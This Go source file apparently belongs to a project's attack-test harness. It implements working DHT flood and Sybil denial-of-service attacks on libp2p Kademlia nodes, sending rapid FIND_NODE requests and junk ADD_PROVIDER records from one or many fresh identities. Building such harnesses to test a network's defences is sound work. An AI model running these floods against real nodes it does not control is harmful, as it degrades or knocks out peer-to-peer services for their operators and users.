package attack

import (
	"context"
	"crypto/rand"
	"errors"
	"time"

	"github.com/ipfs/go-cid"
	pb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-msgio"
	"github.com/multiformats/go-multihash"
	gproto "google.golang.org/protobuf/proto"

	"github.com/wats-network/wats/proto"
)

// The attacks on the network's DHT (docs/adr/0040).
const (
	// DHTFlood: one id sends DHT requests as fast as 16 goroutines can,
	// each on a stream of its own: FIND_NODE for random keys, and
	// ADD_PROVIDER records of random CIDs between them.
	DHTFlood = "dht-flood"
	// DHTSybil: Rate fresh ids a second, each putting 32 provider records
	// of random CIDs, then leaving: the flood of records no per-peer
	// budget sees.
	DHTSybil = "dht-sybil"
)

// dhtRecordsPerSybil is how many provider records each id of DHTSybil puts.
const dhtRecordsPerSybil = 32

// dhtMaxMessage bounds a DHT answer read here, kad-dht's own bound.
const dhtMaxMessage = 4 << 20

func init() { Attacks = append(Attacks, DHTFlood, DHTSybil) }

// dhtAttack runs the DHT attacks; false for another name.
func dhtAttack(ctx context.Context, name string, t Target, o Options, st *stats) bool {
	switch name {
	case DHTFlood:
		dhtFlood(ctx, t, st)
	case DHTSybil:
		atRate(ctx, o.Rate, 1024, func() { dhtSybil(ctx, t, st) })
	default:
		return false
	}
	return true
}

// dhtFlood is one id with 16 goroutines sending DHT requests as fast as
// they go; a closed connection is dialled again.
func dhtFlood(ctx context.Context, t Target, st *stats) {
	holders(ctx, t, 1, 16, 100*time.Millisecond, st, func(c *Conn) {
		for i := 0; ctx.Err() == nil && !c.IsClosed(); i++ {
			if i%2 == 0 {
				c.dhtFindNode(ctx, t, st)
			} else {
				c.dhtAddProvider(ctx, t, st)
			}
		}
	})
}

// dhtSybil is one fresh id that puts dhtRecordsPerSybil provider records
// and leaves.
func dhtSybil(ctx context.Context, t Target, st *stats) {
	withFresh(ctx, t, st, func(dctx context.Context, c *Conn) {
		for range dhtRecordsPerSybil {
			c.dhtAddProvider(dctx, t, st)
		}
	})
}

// dhtStream opens a stream of t's DHT protocol: its LAN DHT's with
// t.LAN.
func (c *Conn) dhtStream(ctx context.Context, t Target) (network.MuxedStream, error) {
	if t.LAN {
		return c.OpenProtocol(ctx, proto.DHTLANProtocol(t.Network))
	}
	return c.OpenProtocol(ctx, proto.DHTProtocol(t.Network))
}

// dhtFindNode asks for the peers closest to a random key and counts the
// request answered when an answer came.
func (c *Conn) dhtFindNode(ctx context.Context, t Target, st *stats) {
	key := make([]byte, 32)
	_, _ = rand.Read(key)
	st.requests.Add(1)
	s, err := c.dhtStream(ctx, t)
	if err != nil {
		return
	}
	defer s.Reset()
	_ = s.SetDeadline(time.Now().Add(requestTimeout))
	if writeDHT(s, &pb.Message{Type: pb.Message_FIND_NODE, Key: key}) != nil {
		return
	}
	if _, err := msgio.NewVarintReaderSize(s, dhtMaxMessage).ReadMsg(); err == nil {
		st.answered.Add(1)
	}
}

// dhtAddProvider puts a provider record of a random CID naming the id
// itself, as kad-dht requires, at t's address. ADD_PROVIDER has no
// answer, and kad-dht resets the stream after a record it took as after
// one it refused: the node's own counts (status, metrics) tell them apart.
func (c *Conn) dhtAddProvider(ctx context.Context, t Target, st *stats) {
	h := make([]byte, 32)
	_, _ = rand.Read(h)
	mh, err := multihash.Encode(h, multihash.SHA2_256)
	if err != nil {
		return
	}
	st.requests.Add(1)
	s, err := c.dhtStream(ctx, t)
	if err != nil {
		return
	}
	defer s.Reset()
	msg := &pb.Message{Type: pb.Message_ADD_PROVIDER, Key: cid.NewCidV1(cid.Raw, mh).Hash(),
		ProviderPeers: []*pb.Message_Peer{{Id: []byte(c.id.ID), Addrs: [][]byte{t.Addr.Bytes()}}}}
	_ = s.SetDeadline(time.Now().Add(requestTimeout))
	if writeDHT(s, msg) != nil {
		return
	}
	_ = s.CloseWrite()
	_, _ = s.Read(make([]byte, 1)) // until the node is done with it
}

// writeDHT writes m as kad-dht frames it: a varint length, then the
// protobuf.
func writeDHT(s network.MuxedStream, m *pb.Message) error {
	b, err := gproto.Marshal(m)
	if err != nil {
		return err
	}
	return msgio.NewVarintWriter(s).WriteMsg(b)
}

// PutProviderRecord connects a fresh id to t and puts one provider record
// of a random CID on its DHT, as a stranger would, and returns once the
// node is done with it (took it or refused it: the wire does not say).
func PutProviderRecord(ctx context.Context, t Target) error {
	st := &stats{}
	c, _ := freshConn(ctx, t, st)
	if c == nil {
		return errors.New("attack: could not connect to the target")
	}
	defer c.Close()
	c.dhtAddProvider(ctx, t, st)
	if st.requests.Load() == 0 {
		return errors.New("attack: no record sent")
	}
	return nil
}
